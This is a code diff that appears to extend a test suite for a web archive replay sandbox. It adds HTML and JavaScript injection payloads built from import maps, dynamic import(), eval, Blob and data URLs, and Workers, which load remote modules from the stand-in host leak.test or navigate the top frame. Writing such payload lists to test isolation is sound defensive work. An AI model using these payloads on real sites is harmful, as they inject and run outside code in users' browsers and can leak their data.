@@ -38,6 +38,8 @@ _ELEMENTS = (
     "<style></style/><img src={u}>", "<title></title x><img src={u}>", "<math><mi href={u}>x</mi><annotation-xml encoding=text/html><img src={u}></annotation-xml></math>",
     "<form action={u}><button>x</button></form>", "<button formaction={u} form=f>x</button><form id=f></form>", "<a href={u} ping={u}>x</a>", "<portal src={u}></portal>",
     "<img src=x onerror=\"this.src='{u}'\">", "<fencedframe src={u}></fencedframe>", "<link rel=stylesheet href='data:text/css,@import url({u})'>",
+    "<script type=importmap>{{\"imports\":{{\"a\":\"{u}\"}}}}</script><script type=module>import 'a'; import '{u}'</script>",
+    "<script type=importmap>{{\"imports\":{{\"./\":\"{u}\"}}}}</script><script type=module>import './b.js'</script>",
     "<iframe src='data:text/html,<img src={u}>'></iframe>", "<iframe src=\"javascript:'<img src={u}>'\"></iframe>", "<object data='data:text/html,<img src={u}>'></object>",
     "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{u}\"/></svg>'>", "<img lowsrc={u} dynsrc={u}>", "<bgsound src={u}>", "<isindex action={u}>",
 )  # fmt: skip
@@ -50,11 +52,15 @@ _SCRIPTS = (
     "for(let p=1;p<20;p++){new Image().src='http://127.0.0.1:'+(9000+p)+'/'}", "top.postMessage({wb_type:'load',url:'javascript:hacked=1',ts:'20210501110100'},'*')",
     "new RTCPeerConnection({iceServers:[{urls:'stun:leak.test'}]}).createDataChannel('x')", "history.pushState(0,0,'/fake')",
     "let c=new RTCPeerConnection({iceServers:[{urls:'stun:leak.test'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))",
-    "if(top!==self)top.location=self.location",
+    "if(top!==self)top.location=self.location", "globalThis.top.location='http://leak.test/raw'", "import('http://leak.test/m.js')",
+    "import('//leak.test/n.js')", "import('data:text/javascript,import(`http://leak.test/d.js`)')", "(0,eval)('import(`http://leak.test/v.js`)')",
+    "import(URL.createObjectURL(new Blob(['import(`http://leak.test/b.js`)'],{type:'text/javascript'})))", "new Function('import(`http://leak.test/f.js`)')()",
+    "new Worker('data:text/javascript,import(`http://leak.test/w.js`)',{type:'module'})", "new Worker(URL.createObjectURL(new Blob(['importScripts(`http://leak.test/w2.js`)'])))",
+    "new Worker(URL.createObjectURL(new Blob(['import `http://leak.test/w3.js`'.replaceAll('`',String.fromCharCode(39))])),{type:'module'})",
 )  # fmt: skip
 _RUN = (
     "<script>{s}</script>", "<img src=x onerror=\"{s}\">", "<svg onload=\"{s}\"></svg>", "<body onload=\"{s}\">", "<iframe srcdoc=\"<script>{s}</script>\"></iframe>",
-    "<details open ontoggle=\"{s}\">x</details>",
+    "<details open ontoggle=\"{s}\">x</details>", "<script type=module>{s}</script>",
 )  # fmt: skip
 
 
